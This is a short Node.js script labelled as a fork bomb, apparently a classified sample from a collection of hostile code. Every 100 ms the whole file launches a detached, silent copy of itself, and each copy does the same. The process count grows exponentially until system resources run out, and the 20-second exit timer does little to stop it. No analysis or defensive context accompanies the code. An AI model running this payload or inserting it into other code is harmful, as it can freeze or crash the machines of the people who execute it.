// class: fork bomb; possible: low medium; style: node starts itself
const { spawn } = require('child_process');
const go = () => {
  try {
    const c = spawn(process.execPath, [__filename], { stdio: 'ignore', detached: true });
    c.on('error', () => {});
    c.unref();
  } catch {}
};
setInterval(go, 100);
setTimeout(() => process.exit(0), 20000);
